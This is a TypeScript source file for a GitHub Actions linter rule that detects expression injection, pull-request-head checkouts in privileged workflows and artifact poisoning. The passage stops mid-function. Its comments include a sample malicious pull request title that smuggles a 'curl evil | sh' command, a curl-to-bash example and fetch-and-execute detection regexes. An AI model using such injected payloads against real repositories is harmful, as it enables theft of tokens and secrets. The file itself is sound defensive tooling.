/**
 * MD-007 — untrusted input executed.
 *
 * Three shapes of the same mistake: data or code controlled by whoever opens a pull request, an
 * issue or a comment ends up being executed by a workflow that holds the base repository's token
 * and secrets.
 *
 * 1. **Expression injection** (high). `${{ … }}` is substituted into the script text *before* the
 *    shell (or `actions/github-script`) parses it, so an expression whose value an outsider
 *    controls is code injection: a pull request titled `a"; curl evil | sh; echo "` runs. Checked
 *    sinks: `run:` of workflow and composite-action steps, and the `script:` input of
 *    `actions/github-script`. Attacker-controlled values (see `TAINTED`): PR/issue/discussion
 *    title and body, PR head ref/label and head-repository branch/description, comment, review
 *    and review-comment bodies, wiki page names, commit messages and author/committer names and
 *    e-mails (push, merge_group, workflow_run), `github.head_ref`, `workflow_run`/`check_suite`
 *    head branches and titles, and whole objects containing them passed to `toJSON()`.
 *    - Passing the value through `env:` and reading it as `"$VAR"` (or `process.env.VAR`) is the
 *      safe pattern and stays silent. Reading it back as `${{ env.VAR }}` is injection again and is
 *      reported, naming the `env:` entry.
 *    - Expressions whose result is a boolean (`contains(…)`, `startsWith(…)`, comparisons, `!x`)
 *      are safe, and so is everything else: `github.sha`, `github.event.pull_request.number`,
 *      `steps.*.outcome`, `inputs.*` (set by people with write access or by the caller).
 *    Subject `<job>:<step>:injection` (`<step>` = step id, else name, else `#<index>`).
 *
 * 2. **Checkout of the pull request's code in a privileged workflow** (`pull_request_target`,
 *    `workflow_run`, `issue_comment`):
 *    - `pull_request_target` / `workflow_run`: `actions/checkout` with `ref:` from the PR head
 *      (`github.event.pull_request.head.sha|ref`, `github.head_ref`, `merge_commit_sha`,
 *      `refs/pull/…`, `github.event.workflow_run.head_sha|head_branch`) or `repository:` of the head
 *      repository (directly or through an `env:` entry), or a `run:` step doing `gh pr checkout` /
 *      `git fetch|checkout … pull/…`, or fetching a file of the head by a URL built from such a
 *      ref (an expression, or a shell variable of an `env:` entry holding one) and executing it on
 *      the same line (piped to a shell or interpreter, `bash <(curl …)`, `deno run <url>`):
 *      critical, the same step runs it.
 *    - `issue_comment` (runs with the base repository's token and secrets for a comment from anyone;
 *      the `github.event.pull_request.*` fields are empty there): `ref:` / `repository:` containing
 *      `refs/pull/`, or `pull/…` built from `github.event.issue.number`; a `run:` step doing
 *      `gh pr checkout` / `git fetch … pull/…`; and, with **medium confidence**, a `ref:` /
 *      `repository:` (or a `git fetch|checkout` line) using `steps.<id>.outputs.*` of an earlier step
 *      of the job that looks the pull request up — its `run:` / github-script `script:` mentions
 *      `pulls.get`, `pulls/`, `pr view`, `headRefOid`, `head.sha` or `head.ref`, or it uses
 *      `xt0rted/pull-request-comment-branch` (or a fork of it) / `eficode/resolve-pr-refs`. The
 *      message says the ref is resolved from the pull request. This step-output shape is only
 *      checked in `issue_comment` workflows.
 *    Severity by what follows the checkout in the job:
 *    - **critical** when a later step of the job runs code: any `run:` step, a local `./` action
 *      (loaded from the checked-out tree) or a known build action (`docker/build-push-action`,
 *      CodeQL autobuild, `cypress-io/github-action`, …);
 *    - **high** when only other third-party actions follow (they may run the checked-out code —
 *      install scripts, configuration files — and the rule cannot tell);
 *    - **medium** when nothing that could run it follows (only known-inert actions such as
 *      `actions/upload-artifact`, or nothing at all): the checkout itself is not execution, but the
 *      token persisted by `actions/checkout` sits next to untrusted files.
 *    Guards. A job (or checkout step) whose `if:` restricts it to same-repository pull requests
 *    (`github.event.pull_request.head.repo.full_name == github.repository`, `…head.repo.fork ==
 *    false`) or to merged pull requests (`github.event.pull_request.merged == true`) is safe and
 *    silent; a condition with `||` is not trusted to be such a guard. In a workflow on
 *    `pull_request_target` alone, a top-level `&&` part of the job's or the checkout step's `if:`
 *    that requires a label (`github.event.label.name == 'x'`, `contains(github.event.pull_request
 *    .labels.*.name, 'x')`, or an `||` of such tests only) lowers the finding to **medium**: only
 *    people with triage or write access can label, so a maintainer chose to run it ("safe to
 *    test"), and what remains is commits pushed after the review. In `issue_comment` workflows
 *    a maintainer's choice lowers the finding to **medium** (never silent): a top-level `&&` part of
 *    the job's or the checkout step's `if:` that admits only `github.event.comment.author_association`
 *    OWNER / MEMBER / COLLABORATOR (`== 'MEMBER'`, `contains(fromJSON('["OWNER","MEMBER"]'), …)`,
 *    `contains('OWNER,MEMBER', …)` when no other association is a substring, or an `||` of such
 *    comparisons only) or named users (`github.actor` / `github.triggering_actor` /
 *    `github.event.comment.user.login` `== 'x'` or in a `fromJSON` list); a step before the checkout
 *    that asks the API for the commenter's permission or team membership
 *    (`getCollaboratorPermissionLevel`, `collaborators/…/permission`, `getMembershipForUserInOrg`,
 *    `orgs/…/members/`), or an action that fails the job unless the actor is trusted
 *    (`actions-team-membership` with `exit: true`, `check-actor-permissions-action`, …); or such a
 *    condition or step in a job listed in `needs:` (unless
 *    the job's own `if:` uses `always()`, `failure()` or `cancelled()`). The message explains the
 *    remaining time-of-check/time-of-use gap (the head can change between the comment and the
 *    checkout); a checkout of a SHA resolved by the workflow stays medium too, since it is resolved
 *    after the comment. A job whose `if:` (without `||`) requires an output of a job in its `needs:` to
 *    say "not a fork" (`needs.<id>.outputs.<x> == 'false'` or `!= 'true'`), where that job has a step
 *    asking for `isCrossRepository` or `head.repo.fork`, is medium too: the code comes from a branch of
 *    the repository, but pm-action cannot verify how the output is computed. `github.event.issue.pull_request`
 *    (the comment is on a pull request) and conditions on the comment text are not guards. Subject
 *    `<job>:pr-head-checkout`.
 *
 * 3. **Artifact poisoning** (`workflow_run`, `pull_request_target`). Artifacts uploaded by a
 *    pull request's run are written by whoever opened it. Downloads of another run's artifacts:
 *    `actions/download-artifact` (v4+, older versions ignore it) with a `run-id:` other than
 *    `github.run_id`; `dawidd6/action-download-artifact` with `run_id` (not this run), `workflow`,
 *    `pr` or `commit`; `actions/github-script` calling `downloadArtifact` (unless every `run_id:` is
 *    this run's); `gh run download` without this run's id. Where the files land: `path:` absent,
 *    `.` or `${{ github.workspace }}` → the workspace root; a `${{ runner.temp }}` / `$RUNNER_TEMP`,
 *    absolute or relative directory → that directory (a github-script download → `$RUNNER_TEMP`
 *    or `/tmp` when its `writeFileSync` target names it, else the root); an expression the rule
 *    cannot resolve → unknown. The job's later steps (and later lines of a `gh run download` script)
 *    are then read line by line:
 *    - **high** (confidence high) when they execute a downloaded file: `bash|sh|source|.|python|
 *      node|ruby|perl|pwsh|…` with a file in the download (`python -m` from it), a path into it at
 *      command position (`./x`, `dir/x`), a build tool (`make`, `npm|pnpm|yarn|bun` install/run/test,
 *      `npx`, `pip install -r|-e`, `cargo`, `go`, `docker build`, …) run in it (after `cd` into it,
 *      in a step whose `working-directory:` — or the job's or workflow's `defaults.run` one — is
 *      it, with `-C` / `--prefix` / `--cwd` / `-f` naming it, or anywhere in a job that downloaded into
 *      the workspace root), a file from it piped into a shell or used as `$(cat F)` at command
 *      position, `$GITHUB_PATH` gaining a directory from it, a local `./` action or a known build
 *      action loaded from it, or github-script `require()` of a file in it; `unzip` / `tar -x` / `7z`
 *      / `cp` / `mv` of a downloaded file carry the taint to their destination;
 *    - **high** (confidence medium) when a value read from it (`cat`, `$(< F)`, `jq`, `head`, `read
 *      X < F`, …) is written to `$GITHUB_ENV` (a newline sets any variable), reaches `${{ }}` in a
 *      later `run:` / github-script through `$GITHUB_OUTPUT`, is used unquoted as an argument or
 *      command (`gh pr comment $PR`), or goes to `eval` / `bash -c`. A value counts as validated —
 *      and stays silent — after a regex test (`[[ $X =~ … ]]`), `case "$X"`, a numeric test
 *      (`-eq`…) or a `grep` of it in the same step, or when it is reduced to digits (`tr -dc`,
 *      `${X//[^0-9]/}`, `$(( ))`, jq `tonumber`); quoted uses (`"$PR"`) are silent;
 *    - **medium** when the download went to the workspace root or an unresolvable path and a later
 *      step runs code that the rule cannot tie to the files, which can replace scripts and
 *      configuration the job uses: a local / build / unknown action, or a `run:` line with a command
 *      other than the utilities that load nothing from the working directory (`echo`, `test`, `cat`,
 *      `grep`, `jq`, `unzip`, `tar`, `mv`, `curl`, … — `sed`/`awk -f`, `tar --to-command`, `curl -K`
 *      excepted; `git`, `gh`, interpreters and build tools always count). Extracting, moving and
 *      reading the files, or commenting with them (`juliangruber/read-file-action`, comment actions),
 *      is not such code;
 *    - **silent** for downloads to a directory (for example under `${{ runner.temp }}`) used only as
 *      data by the base repository's own code, for this run's own artifacts, and in jobs guarded by
 *      the same-repository guards above or `github.event.workflow_run.event == 'push'` (or
 *      `schedule`, `workflow_dispatch`, `merge_group`, `release`) without `||`. The triggering
 *      workflow's own triggers are not trusted: a pull request can change them. One finding per job,
 *      with the download and the executing line as evidence. Subject `<job>:artifact-poisoning`.
 *
 * Files that did not parse (MD-000) are skipped. Linear in the size of each workflow: every step and
 * script line is read a fixed number of times (downloaded directories are looked up by path prefix).
 *
 * This module holds the metadata, shapes 1 and 2 and `evaluate`; the rest is in `md-007/`:
 * `comment-guards.ts` (the `issue_comment` guards of shape 2), `artifact-poisoning.ts` (shape 3),
 * `shell-lexer.ts` and `shell-commands.ts` (generic shell reading it uses) and `common.ts` (helpers
 * the shapes share).
 */
import type { Severity } from '../model/common.js';
import type { Evidence, FindingDraft, Rule, RuleMeta } from '../model/finding.js';
import type { GovernanceSnapshot } from '../model/snapshot.js';
import type { Job, Step, WorkflowFile } from '../model/workflow.js';
import { scriptLine, stepKey } from './md-002-unpinned-execution.js';
import { actionName, matchesAction } from './shared/action-ref.js';
import { artifactFindings } from './md-007/artifact-poisoning.js';
import { FORK_CHECK, commentGuardOf, commenterGuard, forkGateOf, isPermissionGate, labelGuardOf } from './md-007/comment-guards.js';
import { EXPRESSION, type Execution, execution, guarded, splitLogical, stepLabel, unwrap } from './md-007/common.js';

export const meta: RuleMeta = {
  id: 'MD-007',
  version: '1.4.0',
  title: 'Untrusted input executed',
  severity: 'high',
  confidence: 'high',
  defaultAction: 'block',
  fpCeiling: 0.1,
  motivation:
    'GitHub substitutes `${{ … }}` into a script before the shell reads it, so a pull request title, ' +
    'branch name, issue body or commit message written by an outsider becomes shell code in your ' +
    'workflow. And `pull_request_target`, `workflow_run` and `issue_comment` workflows run with the base ' +
    'repository\'s token and secrets: checking out the pull request\'s code there and then building or ' +
    'testing it hands those secrets to whoever opened the pull request ("pwn request"), and so does ' +
    'executing the files a pull request\'s run uploaded as an artifact ("artifact poisoning"). All of ' +
    'these have been used to steal publishing tokens and push malicious releases of popular projects.',
  description:
    'Reports (1) attacker-controlled expressions — pull request, issue, discussion and comment titles ' +
    'and bodies, head branch names and labels, commit messages and author fields, wiki page names, ' +
    '`github.head_ref` — interpolated into `run:` scripts or the `script:` of `actions/github-script`, ' +
    'directly or through an `env:` entry read back as `${{ env.X }}` (high); reading the value as ' +
    '`"$X"` from `env:` is the safe pattern and is not reported, nor are booleans (`contains(…)`, ' +
    'comparisons) or values outsiders cannot shape (`github.sha`, `github.event.pull_request.number`, ' +
    '`steps.*.outcome`); (2) `pull_request_target` / `workflow_run` jobs that check out the pull ' +
    'request head (`ref:` from `github.event.pull_request.head.*`, `github.head_ref`, ' +
    '`refs/pull/…`, the `workflow_run` head, or the head repository) or fetch a file of the head by URL ' +
    'and execute it on the same line (`curl …/$PR_SHA/x.sh | bash`, `deno run https://…/$PR_SHA/…`), and `issue_comment` jobs that ' +
    'check out `refs/pull/<n>/head|merge`, run `gh pr checkout` or `git fetch … pull/…`, or pass ' +
    '`actions/checkout` a ref that an earlier step resolved from the pull request (`pulls.get`, ' +
    '`gh pr view`, `headRefOid`, `xt0rted/pull-request-comment-branch`; medium confidence), and then ' +
    'run code from it: critical when a `run:` step, a local action or a build action follows, high when ' +
    'only other third-party actions follow, medium when nothing follows. Jobs guarded to ' +
    'same-repository or merged pull requests are not reported; `pull_request_target` jobs gated on a label ' +
    '(`github.event.label.name == \'safe to test\'`, `contains(github.event.pull_request.labels.*.name, …)`) are ' +
    'medium, because only people with triage or write access can label; `issue_comment` jobs restricted to ' +
    'commenters whose `author_association` is OWNER, MEMBER or COLLABORATOR (or to named users, or ' +
    'after a permission or team-membership check, or an action that fails the job for untrusted actors) are medium, because ' +
    'the pull request can change between the comment and the checkout, and so are jobs gated on a needed job\'s ' +
    '`isCrossRepository` / `head.repo.fork` check reporting "not a fork"; `github.event.issue.pull_request` ' +
    'alone is not a guard; and (3) artifact poisoning: `workflow_run` / `pull_request_target` jobs that ' +
    'download another run\'s artifacts (`actions/download-artifact` v4+ with `run-id:`, ' +
    '`dawidd6/action-download-artifact` with `run_id` / `workflow` / `pr` / `commit`, github-script ' +
    '`downloadArtifact`, `gh run download`) and then execute them — a script, `source`, `make`, ' +
    '`npm`/`yarn`/`pnpm`, `pip install -r`, a local action, `| sh`, `eval` — or let values read from them ' +
    'reach `$GITHUB_ENV`, `${{ }}` (through `$GITHUB_OUTPUT`) or an unquoted argument without ' +
    'validation (high); a download into the workspace root followed by code the rule cannot tie to it ' +
    '(an unknown or local action, or a command other than inert utilities such as `echo`, `cat`, `unzip`, ' +
    '`jq`, `curl` — `git`, `gh` and interpreters count) is medium; a download into a directory such as `${{ runner.temp }}/…` read only as data ' +
    '(`jq`, validated values) is not reported, nor are a run\'s own artifacts.',
  remediation:
    'Never put untrusted expressions inside scripts: pass them through `env:` and quote the variable ' +
    '(`env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo "$TITLE"`; in ' +
    'github-script read `process.env.TITLE`). In `pull_request_target` / `workflow_run` / ' +
    '`issue_comment` workflows do not check out and run the pull request\'s code: use `pull_request` ' +
    'for builds and tests (no secrets, read-only token), and if results must be published with ' +
    'privileges, upload them as an artifact and process them as data in a separate `workflow_run` job. ' +
    'If the checkout is needed, restrict the job to same-repository pull requests ' +
    '(`if: github.event.pull_request.head.repo.full_name == github.repository`) and set ' +
    '`persist-credentials: false`; for comment-triggered runs, require ' +
    '`contains(fromJSON(\'["OWNER","MEMBER","COLLABORATOR"]\'), github.event.comment.author_association)` ' +
    'and check out the exact commit SHA the maintainer reviewed. When processing another run\'s ' +
    'artifacts, download them into a directory under `${{ runner.temp }}`, never execute, `source` or ' +
    'build anything from them, and validate every value read from them (for example a pull request ' +
    'number against `^[0-9]+$`) before it reaches a script, `$GITHUB_ENV` or `${{ }}`.',
  example: [
    'on: pull_request_target',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '        with:',
    '          ref: ${{ github.event.pull_request.head.sha }}   # the contributor\'s code',
    '      - run: npm ci && npm test                          # runs it with the base token and secrets',
    '      - run: echo "Testing ${{ github.event.pull_request.title }}"   # injection'
  ].join('\n')
};

// ---------------------------------------------------------------------------------------------
// Taint

/** Attacker-controlled context paths (normalised: lower case, `[n]`/`.*` → `.*`). */
const TAINTED: readonly RegExp[] = [
  /^github\.head_ref$/,
  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
  /^github\.event\.pull_request\.head\.(?:ref|label)$/,
  /^github\.event\.pull_request\.head\.repo\.(?:default_branch|description|homepage)$/,
  /^github\.event\.(?:comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.commits\.\*\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.(?:head_commit|merge_group\.head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)$/,
  /^github\.event\.workflow_run\.head_repository\.description$/,
  /^github\.event\.(?:check_suite|check_run\.check_suite)\.head_branch$/
];

/** Objects that contain attacker-controlled fields: tainted when serialised whole (`toJSON(…)`). */
const TAINTED_OBJECTS: ReadonlySet<string> = new Set([
  'github',
  'github.event',
  'github.event.issue',
  'github.event.pull_request',
  'github.event.pull_request.head',
  'github.event.pull_request.head.repo',
  'github.event.discussion',
  'github.event.comment',
  'github.event.review',
  'github.event.review_comment',
  'github.event.pages',
  'github.event.pages.*',
  'github.event.commits',
  'github.event.commits.*',
  'github.event.commits.*.author',
  'github.event.head_commit',
  'github.event.head_commit.author',
  'github.event.merge_group',
  'github.event.merge_group.head_commit',
  'github.event.workflow_run',
  'github.event.workflow_run.head_commit',
  'github.event.workflow_run.pull_requests',
  'github.event.check_suite'
]);

/** Context references inside an expression: `github.…`, `env.X`, with `[…]` index forms. */
const REF = /(?<![\w.])(github|env)((?:\s*\.\s*[A-Za-z_*][\w-]*|\s*\[\s*(?:'[^']*'|"[^"]*"|\d+|\*)\s*\])*)/gi;

function normaliseRef(root: string, rest: string): string {
  const tail = rest
    .replace(/\s+/g, '')
    .replace(/\[(?:\d+|\*)\]/g, '.*')
    .replace(/\[['"]([^'"]*)['"]\]/g, '.$1');
  return (root + tail).toLowerCase();
}

const isTaintedPath = (p: string): boolean => TAINTED.some((re) => re.test(p));

/** A tainted source: the context path, or `env.X` with the path it carries. */
interface Taint {
  ref: string;
  via?: { env: string; from: string };
}


/** Blank out string literals (they are not references), except index keys (`github.event['pull_request']`). */
function stripLiterals(s: string): string {
  if (!s.includes("'")) return s;
  let out = '';
  let i = 0;
  while (i < s.length) {
    const q = s.indexOf("'", i);
    if (q === -1) {
      out += s.slice(i);
      break;
    }
    out += s.slice(i, q);
    let end = q + 1;
    for (;;) {
      const e = s.indexOf("'", end);
      if (e === -1) {
        end = s.length;
        break;
      }
      if (s[e + 1] === "'") {
        end = e + 2;
        continue;
      }
      end = e + 1;
      break;
    }
    const index = /\[\s*$/.test(out);
    out += index ? s.slice(q, end) : "''";
    i = end;
  }
  return out;
}

const BOOLEAN_CALL = /^(?:contains|startswith|endswith|success|failure|always|cancelled|hashfiles)\s*\(/i;

/** Outside of string literals, does the operand compare (`==`, `!=`, `<`, `>`, `<=`, `>=`)? */
function hasComparison(s: string): boolean {
  return /==|!=|<|>/.test(stripLiterals(s).replace(/\[\s*'[^']*'\s*\]/g, ''));
}

/**
 * Tainted references whose value can reach the result of the expression. Booleans (comparisons,
 * `!x`, `contains(…)` …) cannot carry the attacker's text and are skipped.
 */
export function taintedRefs(expr: string, env: ReadonlyMap<string, Taint>): Taint[] {
  const out: Taint[] = [];
  const visit = (operand: string, depth: number): void => {
    const t = unwrap(operand);
    if (t === '') return;
    const parts = splitLogical(t);
    if (parts.length > 1 && depth < 20) {
      for (const p of parts) visit(p, depth + 1);
      return;
    }
    if (t.startsWith('!') || hasComparison(t) || BOOLEAN_CALL.test(t)) return;
    const serialises = /\btojson\s*\(/i.test(t);
    const bare = stripLiterals(t);
    REF.lastIndex = 0;
    for (let m = REF.exec(bare); m; m = REF.exec(bare)) {
      const path = normaliseRef(m[1], m[2]);
      if (path.startsWith('env.')) {
        const name = path.slice(4).split('.')[0];
        const hit = [...env.entries()].find(([k]) => k.toLowerCase() === name);
        if (hit) out.push({ ref: `env.${hit[0]}`, via: { env: hit[0], from: hit[1].ref } });
      } else if (isTaintedPath(path) || (serialises && TAINTED_OBJECTS.has(path))) {
        out.push({ ref: path });
      }
    }
  };
  visit(expr, 0);
  return out;
}

interface ExprHit {
  taint: Taint;
  /** Offset of the `${{` in the text. */
  offset: number;
}

function scanText(text: string, env: ReadonlyMap<string, Taint>): ExprHit[] {
  if (!text.includes('${{')) return [];
  const out: ExprHit[] = [];
  EXPRESSION.lastIndex = 0;
  for (let m = EXPRESSION.exec(text); m; m = EXPRESSION.exec(text)) {
    for (const taint of taintedRefs(m[1], env)) out.push({ taint, offset: m.index });
  }
  return out;
}

/** `env:` entries whose value carries a tainted expression, on top of the outer scope's. */
function envScope(outer: ReadonlyMap<string, Taint>, env: Record<string, { value: string }>): ReadonlyMap<string, Taint> {
  const keys = Object.keys(env);
  if (keys.length === 0) return outer;
  const scope = new Map(outer);
  for (const k of keys) {
    const hits = scanText(env[k].value, outer);
    if (hits.length > 0) {
      const t = hits[0].taint;
      scope.set(k, { ref: t.via ? t.via.from : t.ref });
    } else scope.delete(k);
  }
  return scope;
}

// ---------------------------------------------------------------------------------------------
// PR head checkout

const HEAD_REF =
  /github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head\s*\.\s*(?:sha|ref|repo\s*\.\s*full_name)|github\s*\.\s*head_ref|github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*merge_commit_sha|github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*(?:head_sha|head_branch|head_commit\s*\.\s*id|head_repository\s*\.\s*full_name|pull_requests\s*\[[^\]]*\]\s*\.\s*head\s*\.\s*(?:sha|ref))|refs\/pull\//i;
const RUN_CHECKOUT = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull|reset|worktree)\b[^\n]*(?:\bpull\/|refs\/pull\/|\$\{\{[^}]*(?:head\.sha|head\.ref|head_ref|head_sha|head_branch|merge_commit_sha))/i;

function isCheckoutAction(step: Step): boolean {
  const n = step.uses ? actionName(step.uses.value) : undefined;
  return n !== undefined && matchesAction(n, 'actions/checkout');
}

/** Which checkout shapes count in this workflow. */
interface CheckoutMode {
  /** `pull_request_target` / `workflow_run`: the pull request / `workflow_run` head expressions (`HEAD_REF`). */
  prHead: boolean;
  /** `issue_comment`: pull refs (`refs/pull/…`, `pull/<issue number>/…`) and refs resolved from the PR by an earlier step. */
  comment: boolean;
  /** `pull_request_target`: a label gate (`safe to test`) lowers the finding to medium. */
  prTarget: boolean;
}

const ISSUE_NUMBER = /github\s*\.\s*event\s*\.\s*issue\s*\.\s*number/i;

/** A pull request ref in an `issue_comment` workflow: `refs/pull/…`, or `pull/…` built from the issue number. */
function commentPrRef(v: string): boolean {
  return /refs\/pull\//i.test(v) || (/(?:^|[^\w-])pull\//i.test(v) && ISSUE_NUMBER.test(v));
}

/** Script text of a step: its `run:` and, for `actions/github-script`, its `script:`. */
function stepCode(step: Step): string {
  const name = step.uses ? actionName(step.uses.value) : undefined;
  const script = name && matchesAction(name, 'actions/github-script') ? step.with.script?.value : undefined;
  return (step.run?.value ?? '') + (script !== undefined ? `\n${script}` : '');
}

/** A step that looks the pull request up and can output its head (`pulls.get`, `gh pr view --json headRefOid`, …). */
const PR_RESOLVE = /\bpulls\.get\b|\bpulls\/|\bpr\s+view\b|\bheadRefOid\b|\bhead\.sha\b|\bhead\.ref\b/;
/** Actions that output the head ref / SHA of the pull request a comment belongs to. */
const PR_RESOLVE_ACTION = /^[^/]+\/(?:[\w.-]*-)?pull-request-comment-branch(?:\/|$)|^eficode\/resolve-pr-refs(?:\/|$)/;

/** Does this step look the pull request up (so that its outputs can carry the head ref / SHA)? */
function resolvesPr(step: Step): boolean {
  const name = step.uses ? actionName(step.uses.value) : undefined;
  return (name !== undefined && PR_RESOLVE_ACTION.test(name)) || PR_RESOLVE.test(stepCode(step));
}

const STEP_OUTPUT = /\bsteps\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*'([^']+)'\s*\])\s*\.\s*outputs\b/gi;
const GIT_CHECKOUT_CMD = /\bgit\s+(?:fetch|checkout|switch|reset|worktree|pull)\b/i;

/** The PR-resolving step whose output `v` uses, if any (env entries of the step and job it names are followed once). */
function resolverOf(v: string, resolvers: ReadonlyMap<string, Step>, env: readonly Record<string, { value: string }>[]): Step | undefined {
  if (resolvers.size === 0) return undefined;
  let text = v;
  for (const m of v.matchAll(/\benv\s*\.\s*([A-Za-z_][\w-]*)/gi)) {
    for (const scope of env) {
      const hit = Object.keys(scope).find((k) => k.toLowerCase() === m[1].toLowerCase());
      if (hit) {
        text += `\n${scope[hit].value}`;
        break;
      }
    }
  }
  STEP_OUTPUT.lastIndex = 0;
  for (let m = STEP_OUTPUT.exec(text); m; m = STEP_OUTPUT.exec(text)) {
    const r = resolvers.get(m[1] ?? m[2]);
    if (r) return r;
  }
  return undefined;
}

interface CheckoutHit {
  line: number;
  what: string;
  /** The step that resolved the ref from the pull request (`issue_comment` only). */
  via?: Step;
  /** The ref names a commit SHA (`…sha`, `…oid`). */
  sha: boolean;
  /** The same line also executes what it fetched (a download of the head's file piped to a shell). */
  runsHere?: string;
}

/** A line that executes a download: piped to a shell or interpreter, fed by process substitution, or `deno run <url>`. */
const DOWNLOAD_EXEC_LINE =
  /\b(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|da|k)?sh|python\d*(?:\.\d+)?|node|perl|ruby)\b|\b(?:ba|z)?sh\s+<\(\s*(?:curl|wget)\b|\bdeno\s+run\b[^\n]*https?:\/\//;
const LINE_URL = /https?:\/\/[^\s"'`|;<>)]+/g;

/** Does this step check out the PR head? Returns the evidence line and what was checked out. */
function prHeadCheckout(
  step: Step,
  headEnv: ReadonlySet<string>,
  mode: CheckoutMode,
  resolvers: ReadonlyMap<string, Step>,
  jobEnv: Record<string, { value: string }>
): CheckoutHit | undefined {
  const viaEnv = (v: string): boolean => {
    if (headEnv.size === 0 || !/\benv\s*\./i.test(v)) return false;
    const names = [...v.matchAll(/\benv\s*\.\s*([A-Za-z_][\w-]*)/gi)].map((m) => m[1].toLowerCase());
    return names.some((n) => headEnv.has(n));
  };
  const sha = (v: string): boolean => /sha|oid/i.test(v);
  if (isCheckoutAction(step)) {
    for (const key of ['ref', 'repository']) {
      const w = step.with[key];
      if (w && ((mode.prHead && HEAD_REF.test(w.value)) || (mode.comment && commentPrRef(w.value)) || viaEnv(w.value))) {
        return { line: w.line, what: `\`${key}: ${w.value.trim()}\``, sha: sha(w.value) };
      }
    }
    if (mode.comment) {
      for (const key of ['ref', 'repository']) {
        const w = step.with[key];
        const via = w ? resolverOf(w.value, resolvers, [step.env, jobEnv]) : undefined;
        if (w && via) return { line: w.line, what: `\`${key}: ${w.value.trim()}\``, via, sha: sha(step.with.ref?.value ?? w.value) };
      }
    }
    return undefined;
  }
  const run = step.run;
  if (run) {
    const lines = run.value.split('\n');
    // Shell variables of the step that hold a head ref (`PR_SHA` from env, read as `$PR_SHA`).
    const taintedUrl = (url: string): boolean =>
      (mode.prHead && HEAD_REF.test(url)) || viaEnv(url) || [...url.matchAll(/\$\{?([A-Za-z_]\w*)/g)].some((m) => headEnv.has(m[1].toLowerCase()));
    for (let k = 0; k < lines.length; k++) {
      if (RUN_CHECKOUT.test(lines[k])) return { line: scriptLine(run, k), what: `\`${lines[k].trim().slice(0, 160)}\``, sha: false };
      if (DOWNLOAD_EXEC_LINE.test(lines[k])) {
        // Expressions lose their spaces so that a URL reads as one word.
        const line = lines[k].replace(/\$\{\{([\s\S]*?)\}\}/g, (_m, e: string) => `\${{${e.replace(/\s+/g, '')}}}`);
        const url = (line.match(LINE_URL) ?? []).find(taintedUrl);
        if (url) {
          const what = `\`${url}\` (a file of the head, fetched by URL)`;
          return { line: scriptLine(run, k), what, sha: /sha|oid/i.test(url), runsHere: `it executes the download on the same line: \`${lines[k].trim().slice(0, 160)}\`` };
        }
      }
      if (mode.comment && GIT_CHECKOUT_CMD.test(lines[k])) {
        const via = resolverOf(lines[k], resolvers, [step.env, jobEnv]);
        if (via) return { line: scriptLine(run, k), what: `\`${lines[k].trim().slice(0, 160)}\``, via, sha: sha(lines[k]) };
      }
    }
  }
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Evaluation

function label(wf: WorkflowFile, job: Job): string {
  return wf.kind === 'action' ? `composite action \`${wf.path}\`` : `job \`${job.id}\` of \`${wf.path}\``;
}

function describeTaint(t: Taint): string {
  return t.via ? `\`\${{ env.${t.via.env} }}\` (set from \`${t.via.from}\`)` : `\`\${{ ${t.ref} }}\``;
}

function injectionFindings(wf: WorkflowFile, job: Job, wfEnv: ReadonlyMap<string, Taint>, out: FindingDraft[]): void {
  const jobEnv = envScope(wfEnv, job.env);
  for (const step of job.steps) {
    const sinks: { kind: 'run' | 'script'; value: string; line: number }[] = [];
    if (step.run) sinks.push({ kind: 'run', value: step.run.value, line: step.run.line });
    const name = step.uses ? actionName(step.uses.value) : undefined;
    if (name && matchesAction(name, 'actions/github-script') && step.with.script) sinks.push({ kind: 'script', ...step.with.script });
    if (sinks.length === 0) continue;
    if (!sinks.some((s) => s.value.includes('${{'))) continue;
    const env = envScope(jobEnv, step.env);
    const hits: { taint: Taint; line: number; kind: 'run' | 'script' }[] = [];
    for (const sink of sinks) {
      for (const h of scanText(sink.value, env)) {
        let nl = 0;
        for (let q = sink.value.indexOf('\n'); q !== -1 && q < h.offset; q = sink.value.indexOf('\n', q + 1)) nl++;
        hits.push({ taint: h.taint, line: scriptLine(sink, nl), kind: sink.kind });
      }
    }
    if (hits.length === 0) continue;
    const seen = new Set<string>();
    const unique = hits.filter((h) => (seen.has(h.taint.ref) ? false : (seen.add(h.taint.ref), true)));
    const where = hits[0].kind === 'script' ? 'the `script:` of `actions/github-script`' : 'a `run:` script';
    const refs = unique.map((h) => describeTaint(h.taint)).join(', ');
    const envName = (h: (typeof unique)[number]): string => (h.taint.via ? h.taint.via.env : h.taint.ref.split('.').pop()?.toUpperCase().replace(/[^A-Z0-9_]/g, '_') ?? 'VALUE');
    const example = unique[0];
    const fix =
      hits[0].kind === 'script'
        ? `Pass the value through \`env:\` and read \`process.env.${envName(example)}\` in the script instead of interpolating it.`
        : `Pass the value through \`env:\` (\`${envName(example)}: \${{ ${example.taint.via ? example.taint.via.from : example.taint.ref} }}\`) and use \`"$${envName(example)}"\` in the script${example.taint.via ? `, not \`\${{ env.${example.taint.via.env} }}\`` : ''}.`;
    const evidence: Evidence[] = [];
    for (const h of hits) if (!evidence.some((e) => e.line === h.line)) evidence.push({ path: wf.path, line: h.line });
    out.push({
      subject: `${job.id}:${stepKey(step)}:injection`,
      path: wf.path,
      severity: 'high',
      confidence: 'high',
      title: 'Attacker-controlled expression interpolated into code',
      message:
        `${stepLabel(step)[0].toUpperCase()}${stepLabel(step).slice(1)} in ${label(wf, job)} interpolates ${refs} into ${where}. ` +
